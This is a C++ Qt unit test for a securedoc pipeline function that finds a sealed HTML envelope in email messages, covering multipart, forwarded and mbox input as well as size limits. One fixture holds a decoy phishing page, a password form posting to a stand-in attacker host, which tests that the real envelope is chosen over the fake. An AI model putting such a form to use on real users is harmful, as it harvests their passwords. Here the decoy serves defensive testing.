// SPDX-FileCopyrightText: The securedoc authors
// SPDX-License-Identifier: Apache-2.0
#include "core/pipeline/locate_envelope.h"

#include "core/files/spool.h"

#include "tests/core/pipeline/pipeline_fixture.h"

#include <QTest>

namespace {

std::string mailWith(const std::string& part) {
    return "From: gateway@example.org\r\nSubject: A secure message\r\n"
           "Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\n"
           "Open the attachment.\r\n--outer\r\n" +
           part + "\r\n--outer--\r\n";
}

std::string attached(const std::string& file, const std::string& type = "text/html") {
    return fixture::base64Part("Content-Type: " + type + "; name=securedoc_1.html\r\n", file);
}

} // namespace

class LocateEnvelopeTest final : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void locate_data() {
        const std::string envelope = fixture::sealed(fixture::typicalMessage(100000));
        const std::string fake =
            "<html><form action=\"http://evil.example\"><input type=password></form></html>";
        const std::string mail = mailWith(attached(envelope));
        QTest::addColumn<QByteArray>("input");
        QTest::addColumn<QByteArray>("expected");
        const auto row = [](const char* tag, const std::string& input, const std::string& expected) {
            QTest::newRow(tag) << QByteArray::fromStdString(input) << QByteArray::fromStdString(expected);
        };
        row("the envelope itself", envelope, envelope);
        row("empty", "", "");
        row("any file", "\x89PNG\r\n", "\x89PNG\r\n");
        row("mail", mail, envelope);
        row("mailbox line", "From a@b Mon Jan  1 00:00:00 2024\n" + mail, envelope);
        row("octet-stream", mailWith(attached(envelope, "application/octet-stream")), envelope);
        row("forwarded", mailWith("Content-Type: message/rfc822\r\n\r\n" + mail), envelope);
        row("after another page", mailWith(attached(fake) + "--outer\r\n" + attached(envelope)), envelope);
        row("only a fake", mailWith(attached(fake)), fake);
        row("no page", mailWith("Content-Type: image/png\r\n\r\nPNG"),
            mailWith("Content-Type: image/png\r\n\r\nPNG"));
    }
    void locate() {
        QFETCH(QByteArray, input);
        QFETCH(QByteArray, expected);
        const auto located = pipeline::locateEnvelope(fixture::sourceOf(input.toStdString()));
        QVERIFY(located);
        QVERIFY(QByteArray::fromStdString(fixture::contentOf(*located->file)) == expected);
    }

    void locate_largeOnesGoToAnUnlinkedFile() {
        const std::string large = "<html>" + std::string(70U << 20, 'x');
        const auto located = pipeline::locateEnvelope(fixture::sourceOf(mailWith(attached(large))));
        QVERIFY(located);
        QVERIFY(fixture::contentOf(*located->file) == large);
        QCOMPARE(located->fileName, QStringLiteral("securedoc_1.html"));
        QVERIFY(dynamic_cast<const files::Spool*>(located->file.get()) != nullptr);
    }

    void locate_holdsLimits() {
        base::Limits limits;
        limits.fileSize = 1000;
        const auto located =
            pipeline::locateEnvelope(fixture::sourceOf(mailWith(attached(std::string(2000, 'x')))), limits);
        QVERIFY(!located);
        QCOMPARE(located.error().code, base::ErrorCode::LimitExceeded);
    }
};

QTEST_GUILESS_MAIN(LocateEnvelopeTest)
#include "locate_envelope_test.moc"
